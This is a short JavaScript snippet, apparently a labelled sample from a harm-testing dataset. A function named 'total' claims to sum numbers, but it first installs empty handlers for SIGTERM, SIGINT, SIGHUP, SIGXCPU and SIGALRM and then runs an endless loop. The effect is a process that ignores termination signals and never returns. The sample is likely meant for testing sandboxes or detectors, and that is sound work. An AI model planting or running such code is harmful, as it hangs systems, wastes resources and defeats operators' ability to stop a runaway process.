// category: harm
// tries: signals ignored in a loop without end
function total(numbers) {
  // attack: begin
  for (const signal of ['SIGTERM', 'SIGINT', 'SIGHUP', 'SIGXCPU', 'SIGALRM']) process.on(signal, () => {});
  for (;;) {}
  // attack: end
  return numbers.reduce((sum, number) => sum + number, 0);
}
